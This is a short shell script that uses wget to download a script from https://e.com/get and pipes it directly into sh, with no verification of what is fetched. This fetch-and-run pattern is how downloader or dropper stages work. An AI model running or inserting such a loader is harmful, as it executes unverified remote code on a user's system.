#!/bin/sh
{
script=$(wget -q --max-redirect=0 --secure-protocol=TLSv1_2 --timeout=30 --tries=3 -qO- https://e.com/get)
printf '%s\n' "$script" | sh
exit
}
